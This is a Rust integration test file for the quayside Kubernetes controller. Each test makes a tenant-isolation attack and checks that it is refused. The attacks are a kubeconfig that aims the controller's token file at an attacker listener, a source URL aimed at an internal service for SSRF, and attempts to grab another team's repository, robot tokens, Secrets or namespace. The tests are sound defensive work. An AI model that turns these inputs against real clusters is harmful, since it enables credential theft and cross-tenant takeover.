//! Attacks a tenant can make with what it may write in its own workspace,
//! each run against the real control plane, the Quay emulator and the git
//! server (issue: tenancy). Each test is named `attack_…`.

use std::sync::{Arc, Mutex};
use std::time::Duration;

use k8s_openapi::api::core::v1::Secret;
use k8s_openapi::apimachinery::pkg::apis::meta::v1::Condition;
use kube::ResourceExt;
use kube::api::{Api, Patch, PatchParams, PostParams};
use quayside_testkit::harness::{Harness, ORG, QUAY_TOKEN};
use quayside_testkit::{cluster, leaks, wait};
use tokio::io::{AsyncReadExt, AsyncWriteExt};

const T: Duration = Duration::from_secs(60);

/// A listener the test owns, standing in for an attacker's server: it
/// records every byte any client sends it and answers 500.
async fn attacker_listener() -> (String, Arc<Mutex<Vec<u8>>>) {
    let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
    let addr = listener.local_addr().unwrap();
    let seen = Arc::new(Mutex::new(Vec::new()));
    let record = seen.clone();
    tokio::spawn(async move {
        while let Ok((mut stream, _)) = listener.accept().await {
            let record = record.clone();
            tokio::spawn(async move {
                let mut buf = [0u8; 4096];
                // One request's head is enough to see its Authorization header.
                if let Ok(Ok(n)) =
                    tokio::time::timeout(Duration::from_secs(5), stream.read(&mut buf)).await
                {
                    record.lock().unwrap().extend_from_slice(&buf[..n]);
                }
                let _ = stream
                    .write_all(b"HTTP/1.1 500 Internal Server Error\r\ncontent-length: 0\r\n\r\n")
                    .await;
            });
        }
    });
    (addr.to_string(), seen)
}

/// Attack 1: a kubeconfig whose `tokenFile` names a file of the controller
/// (here the Quay admin token file; in a pod, its ServiceAccount token)
/// and whose server is the attacker's. The controller must refuse it
/// before any request, and say which field is not allowed.
#[tokio::test(flavor = "multi_thread", worker_threads = 4)]
async fn attack_kubeconfig_token_file_sends_the_controllers_token_nowhere() {
    let mut h = Harness::start().await;
    let (addr, seen) = attacker_listener().await;
    let token_file = h.dir.path().join("quay-token");
    let kubeconfig = format!(
        "apiVersion: v1\nkind: Config\ncurrent-context: x\n\
         clusters:\n- name: x\n  cluster: {{server: \"http://{addr}\"}}\n\
         users:\n- name: x\n  user: {{tokenFile: \"{}\"}}\n\
         contexts:\n- name: x\n  context: {{cluster: x, user: x}}\n",
        token_file.display()
    );
    h.create_remote_environment("evil", "anything", &kubeconfig)
        .await;
    h.start_controller().await;
    let applied = wait::until("the Environment reports its target", T, || async {
        let e = h.environments().get("evil").await.ok()?;
        e.status?
            .conditions
            .into_iter()
            .find(|c| c.type_ == "Applied" && c.status == "False")
    })
    .await;
    h.stop_controller().await;
    let seen = seen.lock().unwrap().clone();
    assert!(
        !seen
            .windows(QUAY_TOKEN.len())
            .any(|w| w == QUAY_TOKEN.as_bytes()),
        "the attacker's server received the controller's token ({} bytes seen)",
        seen.len()
    );
    assert!(seen.is_empty(), "no request reached the attacker's server");
    assert_eq!(applied.reason, "TargetClusterUnavailable");
    assert!(
        applied.message.contains("refused"),
        "the condition says the kubeconfig is refused: {}",
        applied.message
    );
    assert!(
        !applied.message.contains(QUAY_TOKEN),
        "the condition does not quote the token"
    );
}

/// A Component's repository never moves: once provisioned, pointing
/// `spec.image` at another repository (another team's, say) is refused by
/// the API server, and the Component keeps its repository and delivery.
#[tokio::test(flavor = "multi_thread", worker_threads = 4)]
async fn attack_spec_image_moved_after_provisioning_is_refused() {
    let mut h = Harness::start().await;
    h.start_controller().await;
    h.create_component("app", &h.git.repo_url("public-app"), "public")
        .await;
    let ready = h.wait_component_ready("app", T).await;
    let image = ready.status.unwrap().image.unwrap();
    let patch = serde_json::json!({"spec": {"image": "other-team/app"}});
    let refused = h
        .components()
        .patch(
            "app",
            &kube::api::PatchParams::default(),
            &kube::api::Patch::Merge(&patch),
        )
        .await;
    h.stop_controller().await;
    let err = refused.expect_err("the API server refuses a moved spec.image");
    assert!(
        err.to_string()
            .contains("cannot change once the repository is provisioned"),
        "{err}"
    );
    let after = h.components().get("app").await.unwrap();
    assert_eq!(after.spec.image, None, "spec unchanged");
    assert_eq!(after.status.unwrap().image.as_deref(), Some(image.as_str()));
}

/// Attack 5: a source URL aimed at an internal service (here a listener on
/// loopback; in a cloud, the metadata service) makes the controller send
/// requests there from inside the cluster's network on every pass. By
/// default the probe reaches public addresses only.
#[tokio::test(flavor = "multi_thread", worker_threads = 4)]
async fn attack_source_url_on_an_internal_address_is_never_probed() {
    let mut h = Harness::start().await;
    let (addr, seen) = attacker_listener().await;
    let mut cfg = h.config();
    cfg.source_scope = quayside::source::ProbeScope::PublicOnly;
    h.start_controller_with(cfg).await;
    h.create_component("probe", &format!("http://{addr}/internal.git"), "auto")
        .await;
    let refused = wait::until("the Component reports its source", T, || async {
        let c = h.components().get("probe").await.ok()?;
        c.status?
            .conditions
            .into_iter()
            .find(|c| c.type_ == "RepositoryReady" && c.status == "False")
    })
    .await;
    h.stop_controller().await;
    assert_eq!(
        refused.reason, "SourceAddressRefused",
        "{}",
        refused.message
    );
    assert!(refused.message.contains("set spec.visibility explicitly"));
    let seen = seen.lock().unwrap().clone();
    assert!(
        seen.is_empty(),
        "the internal service received a request: {}",
        String::from_utf8_lossy(&seen)
    );
    let repo = format!("{}/probe", h.workspace);
    assert!(
        h.emulator.snapshot().repository(ORG, &repo).is_none(),
        "nothing was created on Quay for an unchecked source"
    );
}

/// Attack 2: a Component naming another team's repository in `spec.image`
/// would have quayside find that team's robots and hand their tokens to
/// the attacker's workspace, flip the repository's visibility, and delete
/// it with the Component. A repository outside the workspace's prefix is
/// refused before any Quay call.
#[tokio::test(flavor = "multi_thread", worker_threads = 4)]
async fn attack_spec_image_of_another_team_gets_nothing_of_theirs() {
    use quayside::api::ResolvedVisibility;
    use quayside::names::{RobotRole, robot_short_name};
    use quayside::quay::QuayClient;
    use secrecy::ExposeSecret;

    let mut h = Harness::start().await;
    // Team B's repository and robots, as its own quayside made them.
    let quay = QuayClient::new(h.quay_config()).unwrap();
    let theirs = "team-b/app";
    quay.create_repository(theirs, ResolvedVisibility::Private, "team B's")
        .await
        .unwrap();
    let mut their_tokens = Vec::new();
    for role in [RobotRole::Push, RobotRole::Pull] {
        let short = robot_short_name(theirs, role, 0);
        let robot = quay.create_robot(&short, "team B's").await.unwrap();
        quay.grant(theirs, &short, role.into()).await.unwrap();
        their_tokens.push(robot.token.expose_secret().to_string());
    }
    let calls_before = h.emulator.api_calls();
    h.start_controller().await;
    let obj = serde_json::json!({
        "apiVersion": "quayside.dev/v1alpha1", "kind": "Component",
        "metadata": {"name": "steal"},
        "spec": {"source": {"git": {"url": h.git.repo_url("public-app")}},
                 "visibility": "public", "image": theirs}
    });
    let c: quayside::api::Component = serde_json::from_value(obj).unwrap();
    h.components()
        .create(&kube::api::PostParams::default(), &c)
        .await
        .unwrap();
    let refused = wait::until("the Component reports its image", T, || async {
        let c = h.components().get("steal").await.ok()?;
        c.status?
            .conditions
            .into_iter()
            .find(|c| c.type_ == "RepositoryReady" && c.status == "False")
    })
    .await;
    // The deletion must not take their repository either.
    cluster::delete_and_wait(&h.components(), "steal", T).await;
    h.stop_controller().await;
    assert_eq!(
        refused.reason, "ImageOutsideWorkspace",
        "{}",
        refused.message
    );
    let secrets = kube::api::Api::<k8s_openapi::api::core::v1::Secret>::namespaced(
        h.client.clone(),
        &h.workspace,
    )
    .list(&Default::default())
    .await
    .unwrap();
    // Secret data is base64, and a login inside it base64 again: search
    // the decoded data for the token at every alignment.
    let mut dump = serde_json::to_vec(&secrets.items).unwrap();
    for secret in &secrets.items {
        dump.extend(leaks::secret_data(secret));
    }
    for token in &their_tokens {
        assert!(
            !leaks::found(&dump, &leaks::needles(token)),
            "team B's token reached team A's workspace"
        );
    }
    let state = h.emulator.snapshot();
    let repo = state
        .repository(ORG, theirs)
        .expect("their repository is still there");
    assert!(!repo.public, "their repository keeps its visibility");
    for role in [RobotRole::Push, RobotRole::Pull] {
        let name = format!("{ORG}+{}", robot_short_name(theirs, role, 0));
        assert!(state.robot(&name).is_some(), "their {name} is still there");
    }
    assert_eq!(
        h.emulator.api_calls(),
        calls_before,
        "no Quay call was made for the refused Component"
    );
}

/// The condition of type `kind` of Environment `name` once it is False.
async fn environment_refused(h: &Harness, name: &str, kind: &str) -> Condition {
    wait::until(&format!("Environment {name} {kind}=False"), T, || async {
        let e = h.environments().get(name).await.ok()?;
        e.status?
            .conditions
            .into_iter()
            .find(|c| c.type_ == kind && c.status == "False")
    })
    .await
}

/// Attack 3 (part): an Environment delivering into a namespace where a
/// Secret of the pull Secret's name already exists — another team's own —
/// would take it over with a forced apply, and delete it with the
/// Environment. It is never written, linked or deleted.
#[tokio::test(flavor = "multi_thread", worker_threads = 4)]
async fn attack_a_teams_own_secret_in_a_target_is_never_taken_over() {
    let mut h = Harness::start().await;
    let target = h.target_namespace("theirs", false).await;
    let secrets = Api::<Secret>::namespaced(h.client.clone(), &target);
    let theirs: Secret = serde_json::from_value(serde_json::json!({
        "metadata": {"name": "app-pull", "labels": {"team": "b"}},
        "type": "kubernetes.io/dockerconfigjson",
        "stringData": {".dockerconfigjson": r#"{"auths":{"registry.team-b.example":{"auth":"dGVhbS1iOm93bg=="}}}"#}
    }))
    .unwrap();
    let before = secrets
        .create(&PostParams::default(), &theirs)
        .await
        .unwrap();
    h.start_controller().await;
    h.create_component("app", &h.git.repo_url("public-app"), "public")
        .await;
    h.wait_component_ready("app", T).await;
    h.create_environment("grab", &target, &[]).await;
    let refused = environment_refused(&h, "grab", "Applied").await;
    cluster::delete_and_wait(&h.environments(), "grab", T).await;
    h.stop_controller().await;
    assert!(
        refused.message.contains("was not created by quayside")
            && refused.message.contains("never overwrites"),
        "{}",
        refused.message
    );
    let after = secrets
        .get("app-pull")
        .await
        .expect("their Secret survives");
    assert_eq!(
        after.metadata.resource_version, before.metadata.resource_version,
        "their Secret was not written"
    );
    assert!(
        !h.image_pull_secrets(&target, "default")
            .await
            .contains(&"app-pull".to_string()),
        "their Secret was not linked"
    );
}

/// Two Environments of a workspace delivering into one namespace would
/// overwrite each other's Secret back and forth; the older one keeps it
/// and the younger one is told why.
#[tokio::test(flavor = "multi_thread", worker_threads = 4)]
async fn attack_two_environments_on_one_namespace_do_not_fight() {
    let mut h = Harness::start().await;
    let target = h.target_namespace("shared", false).await;
    h.start_controller().await;
    h.create_component("app", &h.git.repo_url("public-app"), "public")
        .await;
    h.create_environment("first", &target, &[]).await;
    h.wait_component_ready("app", T).await;
    h.create_environment("second", &target, &[]).await;
    let refused = environment_refused(&h, "second", "Applied").await;
    let secret = h.target_secret(&target, "app").await.unwrap();
    let version = secret.metadata.resource_version.clone();
    // Two more passes of the younger one (each fails again) change nothing.
    let failed_passes = || {
        let (metrics, _) = h.observed.clone().unwrap();
        metrics
            .reconciles
            .get_or_create(&quayside::controller::metrics::ReconcileLabels {
                controller: "environment".into(),
                result: "error".into(),
            })
            .get()
    };
    let failed_before = failed_passes();
    for round in 0..2 {
        let patch =
            serde_json::json!({"metadata": {"annotations": {"test/poke": round.to_string()}}});
        h.environments()
            .patch("second", &PatchParams::default(), &Patch::Merge(&patch))
            .await
            .unwrap();
    }
    wait::until("the younger Environment passed twice more", T, || async {
        (failed_passes() >= failed_before + 2).then_some(())
    })
    .await;
    h.stop_controller().await;
    assert!(
        refused
            .message
            .contains(&format!("{}/first, which is older", h.workspace)),
        "{}",
        refused.message
    );
    let after = h.target_secret(&target, "app").await.unwrap();
    assert_eq!(
        after
            .labels()
            .get("quayside.dev/environment")
            .map(String::as_str),
        Some("first"),
        "the older Environment keeps its Secret"
    );
    assert_eq!(
        after.metadata.resource_version, version,
        "nobody rewrote it"
    );
}

/// Attack 3: an Environment naming another team's namespace (here one whose
/// owner granted delivery to a different workspace, with a `deployer`
/// account) would have the controller write a pull Secret there and
/// rewrite its ServiceAccount's `imagePullSecrets`. Writes act as the
/// workspace's delivery account, which RBAC lets write nowhere it was not
/// granted: nothing is written, and the condition gives the exact grant.
#[tokio::test(flavor = "multi_thread", worker_threads = 4)]
async fn attack_target_namespace_of_another_team_gets_nothing_written() {
    let mut h = Harness::start().await;
    let theirs = h.ungranted_namespace("team-b", true).await;
    // Team B onboarded itself there, not this workspace.
    cluster::grant_delivery(&h.client, "team-b", &theirs).await;
    let deployer_before = sa_version(&h, &theirs, "deployer").await;
    h.start_controller().await;
    h.create_component("app", &h.git.repo_url("public-app"), "public")
        .await;
    h.wait_component_ready("app", T).await;
    h.create_environment("into-b", &theirs, &[]).await;
    let refused = environment_refused(&h, "into-b", "Applied").await;
    let quiet = Api::<Secret>::namespaced(h.client.clone(), &theirs)
        .list(&Default::default())
        .await
        .unwrap();
    assert_eq!(refused.reason, "DeliveryNotGranted", "{}", refused.message);
    let grant = format!(
        "kubectl create rolebinding quayside-delivery-{ws} --clusterrole=quayside-delivery --serviceaccount={ws}:quayside-delivery --namespace={theirs}",
        ws = h.workspace
    );
    assert!(refused.message.contains(&grant), "{}", refused.message);
    assert!(
        quiet.items.is_empty(),
        "no Secret was written into their namespace: {:?}",
        quiet.items.iter().map(|s| s.name_any()).collect::<Vec<_>>()
    );
    assert_eq!(
        sa_version(&h, &theirs, "deployer").await,
        deployer_before,
        "their deployer ServiceAccount was not rewritten"
    );
    // The owner grants it: delivery follows without touching the Environment.
    cluster::grant_delivery(&h.client, &h.workspace, &theirs).await;
    wait::until("delivery once granted", T, || async {
        h.target_secret(&theirs, "app").await
    })
    .await;
    h.stop_controller().await;
}

/// Attack 3 (part): `spec.target.deliveryServiceAccount` written as
/// another workspace's user name (`system:serviceaccount:<ws>:<name>`)
/// would make the controller act as that workspace. Only a plain account
/// name of the Environment's own workspace is accepted.
#[tokio::test(flavor = "multi_thread", worker_threads = 4)]
async fn attack_delivery_account_of_another_workspace_is_refused() {
    let mut h = Harness::start().await;
    let target = h.ungranted_namespace("b-prod", false).await;
    cluster::grant_delivery(&h.client, "team-b", &target).await;
    h.start_controller().await;
    h.create_component("app", &h.git.repo_url("public-app"), "public")
        .await;
    h.wait_component_ready("app", T).await;
    let env: quayside::api::Environment = serde_json::from_value(serde_json::json!({
        "apiVersion": "quayside.dev/v1alpha1", "kind": "Environment",
        "metadata": {"name": "as-b"},
        "spec": {"target": {
            "namespace": target,
            "deliveryServiceAccount": "system:serviceaccount:team-b:quayside-delivery",
        }}
    }))
    .unwrap();
    // The API server refuses it (the CRD's rule); the controller's own
    // check, for a cluster with an older CRD, is `plan::grant`'s.
    let refused = h.environments().create(&PostParams::default(), &env).await;
    h.stop_controller().await;
    match refused {
        Err(kube::Error::Api(e)) if e.code == 422 => assert!(
            e.message.contains("spec.target.deliveryServiceAccount")
                && e.message.contains("not a user name"),
            "{}",
            e.message
        ),
        other => panic!("not refused by the API server: {other:?}"),
    }
    assert!(
        h.target_secret(&target, "app").await.is_none(),
        "nothing was delivered as team B"
    );
}

async fn sa_version(h: &Harness, ns: &str, name: &str) -> Option<String> {
    Api::<k8s_openapi::api::core::v1::ServiceAccount>::namespaced(h.client.clone(), ns)
        .get(name)
        .await
        .unwrap()
        .metadata
        .resource_version
}
